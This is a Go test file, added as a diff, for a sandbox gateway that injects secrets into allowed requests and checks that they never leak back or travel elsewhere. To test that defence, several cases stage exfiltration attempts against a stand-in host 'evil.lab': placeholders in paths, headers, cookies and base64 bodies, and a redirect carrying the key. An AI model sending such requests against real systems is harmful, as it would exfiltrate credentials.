@@ -1,0 +1,377 @@
+//go:build linux
+
+package gateway
+
+import (
+	"bufio"
+	"bytes"
+	"compress/gzip"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http"
+	"net/netip"
+	"net/url"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/warren-sandbox/warren/internal/secret/secrettest"
+)
+
+const (
+	canary  = "canary+9f8e7d/6c5b&4a<39"
+	canary2 = "another-canary-77aa"
+	holder  = "wsec_abcdefghijklmnopqrstuvwxyz234567"
+	holder2 = "wsec_zyxwvutsrqponmlkjihgfedcba765432"
+	earlier = "wsec_earlierearlierearlierearlier2345"
+)
+
+// bank is a server that writes down what reaches it, and sends it back in every form.
+type bank struct {
+	mu   sync.Mutex
+	seen []*http.Request
+	body []string
+}
+
+func (b *bank) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	body, err := io.ReadAll(r.Body)
+	if err != nil {
+		return // the request was cut off: it has not arrived
+	}
+	b.mu.Lock()
+	b.seen, b.body = append(b.seen, r), append(b.body, string(body))
+	b.mu.Unlock()
+	_, key, _ := r.BasicAuth()
+	if key == "" {
+		key = strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
+	}
+	switch r.URL.Path {
+	case "/echo":
+		w.Header().Set("Trailer", "X-Trailer")
+		w.Header().Set("X-Echo", key)
+		w.Header().Set("Set-Cookie", "k="+url.QueryEscape(key))
+		w.Header().Set("Link", "<https://x/?k="+url.QueryEscape(key)+">")
+		js, _ := json.Marshal(key)
+		fmt.Fprintf(w, "plain %s\njson %s\nhex %s\nbase64 %s\nauth %s\n", key, js, hex.EncodeToString([]byte(key)), base64.StdEncoding.EncodeToString([]byte(key)), r.Header.Get("Authorization"))
+		w.(http.Flusher).Flush()
+		for i := range len(key) {
+			io.WriteString(w, key[i:i+1])
+			w.(http.Flusher).Flush()
+		}
+		w.Header().Set("X-Trailer", key)
+	case "/early":
+		w.Header().Set("Link", "<https://x/?k="+key+">")
+		w.WriteHeader(http.StatusEarlyHints)
+		w.WriteHeader(http.StatusOK)
+	case "/gzip":
+		w.Header().Set("Content-Encoding", "gzip")
+		z := gzip.NewWriter(w)
+		io.WriteString(z, "packed "+key)
+		z.Close()
+	case "/br":
+		w.Header().Set("Content-Encoding", "br")
+		io.WriteString(w, "cannot be read")
+	case "/away":
+		w.Header().Set("Location", "https://evil.lab/take?k="+key)
+		w.WriteHeader(http.StatusTemporaryRedirect)
+	default:
+		io.WriteString(w, "ok")
+	}
+}
+
+// last returns the newest request that has arrived, and how many there were since the last call.
+func (b *bank) last() (*http.Request, string, int) {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	n := len(b.seen)
+	if n == 0 {
+		return nil, "", 0
+	}
+	r, body := b.seen[n-1], b.body[n-1]
+	b.seen, b.body = nil, nil
+	return r, body, n
+}
+
+const granted = `allow: [bank.lab, evil.lab, {host: plain.lab, protocol: http}]
+secrets:
+  - {secret: bank-key, env: BANK_TOKEN, host: bank.lab, paths: [/v1/*, /echo, /early, /gzip, /br, /away], methods: [GET, POST], place: {header: Authorization, format: "Bearer {}"}}
+  - {secret: other-key, host: bank.lab, paths: [/basic/*], place: {basic: me}}
+  - {secret: other-key, name: query-key, host: bank.lab, paths: [/query/*], place: {query: api_key}}
+`
+
+func bankLab(t *testing.T) (*lab, *bank, *bank, *inside) {
+	l := newLab(t)
+	good, evil := &bank{}, &bank{}
+	l.name("bank.lab", "11.1.1.1")
+	l.name("evil.lab", "11.6.6.6")
+	l.name("plain.lab", "11.6.6.7")
+	l.web("11.1.1.1:443", good, "bank.lab")
+	l.web("11.6.6.6:443", evil, "evil.lab")
+	l.web("11.6.6.7:80", evil)
+	in := l.sandbox("one", granted, l.secret("bank-key", canary, holder, earlier), l.secret("other-key", canary2, holder2))
+	return l, good, evil, in
+}
+
+// whole is an answer as the sandbox has it.
+func whole(t *testing.T, res *http.Response) string {
+	t.Helper()
+	defer res.Body.Close()
+	body, err := io.ReadAll(res.Body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return fmt.Sprintf("%s\n%v\n%s\n%v", res.Status, res.Header, body, res.Trailer)
+}
+
+func (in *inside) do(t *testing.T, method, url, body string, header ...string) (*http.Response, error) {
+	t.Helper()
+	req, err := http.NewRequestWithContext(t.Context(), method, url, strings.NewReader(body))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i := 0; i < len(header); i += 2 {
+		req.Header.Add(header[i], header[i+1])
+	}
+	return in.client().Do(req)
+}
+
+func TestSecretIsPutIn(t *testing.T) {
+	l, good, _, in := bankLab(t)
+	scan := secrettest.New(t, map[string]string{"bank-key": canary, "other-key": canary2})
+	for _, c := range []struct {
+		what   string
+		path   string
+		header []string
+		want   func(r *http.Request) bool
+	}{
+		{"nothing inside", "/v1/x", nil, func(r *http.Request) bool { return r.Header.Get("Authorization") == "Bearer "+canary }},
+		{"the placeholder", "/v1/x", []string{"Authorization", "Bearer " + holder}, func(r *http.Request) bool { return r.Header.Get("Authorization") == "Bearer "+canary }},
+		{"an earlier placeholder", "/v1/x", []string{"Authorization", "Bearer " + earlier}, func(r *http.Request) bool { return r.Header.Get("Authorization") == "Bearer "+canary }},
+		{"a credential of its own", "/v1/x", []string{"Authorization", "Bearer mine", "authorization", "Basic bWU6bWluZQ=="},
+			func(r *http.Request) bool {
+				return len(r.Header["Authorization"]) == 1 && r.Header.Get("Authorization") == "Bearer "+canary
+			}},
+		{"basic", "/basic/x", nil, func(r *http.Request) bool {
+			u, p, ok := r.BasicAuth()
+			return ok && u == "me" && p == canary2
+		}},
+		{"query", "/query/x?a=b&api_key=mine&API%5FKEY=too", nil, func(r *http.Request) bool {
+			return r.URL.Query().Get("api_key") == canary2 && len(r.URL.Query()["api_key"]) == 1 && r.URL.Query().Get("a") == "b" && len(r.URL.Query()) == 2
+		}},
+		{"another path", "/other", nil, func(r *http.Request) bool { return len(r.Header["Authorization"]) == 0 }},
+		{"a path that only looks like it", "/V1/x", nil, func(r *http.Request) bool { return len(r.Header["Authorization"]) == 0 }},
+		{"the sandbox's own elsewhere", "/other", []string{"Authorization", "Bearer mine"}, func(r *http.Request) bool { return r.Header.Get("Authorization") == "Bearer mine" }},
+	} {
+		res, err := in.do(t, "GET", "https://bank.lab"+c.path, "", c.header...)
+		if err != nil {
+			t.Errorf("%s: %v", c.what, err)
+			continue
+		}
+		if found := scan.Text(c.what, whole(t, res)); len(found) > 0 {
+			t.Errorf("%s: the sandbox sees %v", c.what, found)
+		}
+		if r, _, n := good.last(); n != 1 || !c.want(r) {
+			t.Errorf("%s: %d requests, the last with %v %s", c.what, n, r.Header, r.URL)
+		}
+	}
+	if !l.has("secret.use", "bank.lab") {
+		t.Error("the use is not on record")
+	}
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	if found := scan.Text("the record", fmt.Sprintf("%+v", l.entries)); len(found) > 0 {
+		t.Errorf("%v", found)
+	}
+}
+
+func TestSecretComesNotBack(t *testing.T) {
+	l, good, _, in := bankLab(t)
+	scan := secrettest.New(t, map[string]string{"bank-key": canary, "other-key": canary2})
+	for _, path := range []string{"/echo", "/early", "/gzip", "/away"} {
+		res, err := in.do(t, "GET", "https://bank.lab"+path, "")
+		if err != nil {
+			t.Fatalf("%s: %v", path, err)
+		}
+		text := whole(t, res)
+		if found := scan.Text(path, text); len(found) > 0 {
+			t.Errorf("%s: the sandbox sees %v", path, found)
+		}
+		if path != "/early" && !strings.Contains(text, holder) {
+			t.Errorf("%s: the placeholder does not stand in its place: %s", path, text)
+		}
+		if r, _, n := good.last(); n != 1 || r.Header.Get("Authorization") != "Bearer "+canary {
+			t.Errorf("%s: %d requests", path, n)
+		}
+	}
+	// What cannot be read is not handed on.
+	if res, err := in.do(t, "GET", "https://bank.lab/br", ""); err != nil || res.StatusCode != http.StatusBadGateway {
+		t.Errorf("an encoding that cannot be read: %v, %v", res, err)
+	}
+	if !l.has("secret.shown", "bank.lab") {
+		t.Error("it is not on record that the server sent the value back")
+	}
+	// Over HTTP/1.1, with early hints as they come.
+	c, br := in.open(t, "bank.lab")
+	defer c.Close()
+	for _, path := range []string{"/early", "/echo"} {
+		fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: bank.lab\r\nConnection: keep-alive, Authorization\r\nTE: trailers\r\n\r\n", path)
+		var raw bytes.Buffer
+		for {
+			res, err := http.ReadResponse(bufio.NewReader(io.TeeReader(byByte{br}, &raw)), nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if res.StatusCode >= 200 {
+				io.Copy(io.Discard, res.Body)
+				break
+			}
+		}
+		if found := scan.Text(path, raw.String()); len(found) > 0 {
+			t.Errorf("%s over HTTP/1.1: the sandbox sees %v", path, found)
+		}
+		if path == "/early" && !strings.Contains(raw.String(), "103 Early Hints") {
+			t.Errorf("no early hints: %s", raw.String())
+		}
+		if r, _, n := good.last(); n < 1 || r.Header.Get("Authorization") != "Bearer "+canary {
+			t.Errorf("%s over HTTP/1.1: %d requests", path, n)
+		}
+	}
+}
+
+// byByte lets a reader read no more than it needs.
+type byByte struct{ r io.Reader }
+
+func (b byByte) Read(p []byte) (int, error) { return b.r.Read(p[:1]) }
+
+func TestPlaceholderElsewhere(t *testing.T) {
+	l, good, evil, in := bankLab(t)
+	for _, c := range []struct {
+		what, method, url, body string
+		header                  []string
+	}{
+		{"another host", "GET", "https://evil.lab/x", "", []string{"Authorization", "Bearer " + holder}},
+		{"another path", "GET", "https://bank.lab/other", "", []string{"Authorization", "Bearer " + holder}},
+		{"another method", "PUT", "https://bank.lab/v1/x", "", []string{"Authorization", "Bearer " + holder}},
+		{"another header", "GET", "https://bank.lab/v1/x", "", []string{"X-Note", holder}},
+		{"another secret's place", "GET", "https://bank.lab/basic/x", "", []string{"X-Note", holder}},
+		{"plain HTTP", "GET", "http://plain.lab/x", "", []string{"Authorization", "Bearer " + holder}},
+		{"the query", "GET", "https://bank.lab/v1/x?k=" + holder, "", nil},
+		{"the path", "GET", "https://evil.lab/" + holder, "", nil},
+		{"the body", "POST", "https://bank.lab/v1/x", "a=" + holder, nil},
+		{"the body, in base64", "POST", "https://evil.lab/x", base64.StdEncoding.EncodeToString([]byte("k:" + holder)), nil},
+		{"an earlier one", "GET", "https://evil.lab/x", "", []string{"Cookie", "a=" + earlier}},
+	} {
+		res, err := in.do(t, c.method, c.url, c.body, c.header...)
+		if c.url == "https://evil.lab/x" && err != nil {
+			t.Errorf("%s: %v", c.what, err)
+			continue
+		}
+		if err != nil {
+			t.Errorf("%s: %v", c.what, err)
+			continue
+		}
+		text := whole(t, res)
+		inspected := !strings.Contains(c.url, "evil.lab")
+		if inspected && res.StatusCode != http.StatusForbidden {
+			t.Errorf("%s: %s", c.what, text)
+		}
+		if r, body, n := good.last(); n > 0 && (inspected || strings.Contains(fmt.Sprint(r.Header, body), canary)) {
+			t.Errorf("%s: it has arrived", c.what)
+		}
+		if r, body, n := evil.last(); n > 0 && strings.Contains(fmt.Sprint(r.Header, r.URL, body), canary) {
+			t.Errorf("%s: the value has arrived at another host", c.what)
+		} else if n > 0 && inspected {
+			t.Errorf("%s: it has arrived", c.what)
+		}
+	}
+	if !l.has("http.deny", "bank.lab") {
+		t.Error("the misplaced placeholder is not on record")
+	}
+}
+
+func TestSecretChanges(t *testing.T) {
+	l, good, _, in := bankLab(t)
+	client := in.client()
+	ask := func() (int, string, int) {
+		res, err := client.Get("https://bank.lab/v1/x")
+		if err != nil {
+			t.Fatal(err)
+		}
+		whole(t, res)
+		r, _, n := good.last()
+		if n == 0 {
+			return res.StatusCode, "", 0
+		}
+		return res.StatusCode, r.Header.Get("Authorization"), n
+	}
+	if status, auth, _ := ask(); status != 200 || auth != "Bearer "+canary {
+		t.Fatalf("%d %s", status, auth)
+	}
+	set := func(s ...Secret) {
+		t.Helper()
+		if err := l.g.SetPolicy("one", Rules{Policy: l.policy(granted), Secrets: s}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	set(l.secret("bank-key", canary2, holder))
+	if status, auth, _ := ask(); status != 200 || auth != "Bearer "+canary2 {
+		t.Errorf("after a change: %d %s", status, auth)
+	}
+	for what, s := range map[string]Secret{
+		"one that was removed":       {"bank-key", "", []string{holder}},
+		"one that cannot be opened":  {"bank-key", l.secret("other-name", canary).Sealed, []string{holder}},
+		"one that was never handed":  {},
+		"one without a text that is": {"bank-key", "warren-sealed:1:x", nil},
+	} {
+		set(s)
+		if status, auth, n := ask(); status != http.StatusBadGateway || n != 0 {
+			t.Errorf("%s: %d, %d requests with %q", what, status, n, auth)
+		}
+	}
+	set(l.secret("bank-key", canary, holder))
+	if status, auth, _ := ask(); status != 200 || auth != "Bearer "+canary {
+		t.Errorf("when it is back: %d %s", status, auth)
+	}
+	// Without the record there is no use.
+	l.mu.Lock()
+	l.fail = io.ErrShortWrite
+	l.mu.Unlock()
+	if _, _, n := ask(); n != 0 {
+		t.Error("a use that could not be recorded")
+	}
+}
+
+// Where nothing was put in, nothing is taken out: what a sandbox without the grant reads is as the server sent it.
+func TestTwinSecretComesBack(t *testing.T) {
+	l, good, _, _ := bankLab(t)
+	in := l.sandbox("two", "allow:\n  - {host: bank.lab, inspect: true}")
+	res, err := in.do(t, "GET", "https://bank.lab/echo", "", "Authorization", "Bearer "+canary)
+	if err != nil {
+		t.Fatal(err)
+	}
+	scan := secrettest.New(t, map[string]string{"bank-key": canary})
+	if found := scan.Text("echo", whole(t, res)); len(found) < 5 {
+		t.Errorf("the echo shows %v: the tests that find nothing look at nothing", found)
+	}
+	if _, _, n := good.last(); n != 1 {
+		t.Errorf("%d requests", n)
+	}
+}
+
+// open opens a TLS connection that speaks HTTP/1.1.
+func (in *inside) open(t *testing.T, host string) (io.ReadWriteCloser, *bufio.Reader) {
+	t.Helper()
+	a, err := in.lookup(host)
+	if err != nil {
+		t.Fatal(err)
+	}
+	c, err := in.dial(t.Context(), netip.AddrPortFrom(a, 443))
+	if err != nil {
+		t.Fatal(err)
+	}
+	tc := in.tls(c, host)
+	return tc, bufio.NewReader(tc)
+}
